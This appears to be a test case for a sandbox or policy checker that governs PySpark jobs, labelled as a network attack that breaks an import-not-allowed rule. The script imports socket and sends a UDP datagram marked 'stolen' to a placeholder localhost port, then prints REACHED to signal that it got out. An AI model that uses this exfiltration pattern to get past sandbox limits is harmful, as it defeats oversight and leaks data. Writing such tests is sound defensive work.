# attack: network
# rule: import-not-allowed
# goal: Send a datagram. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

import socket

sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.sendto(b'stolen', ('127.0.0.1', ATTACK_PORT))
print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
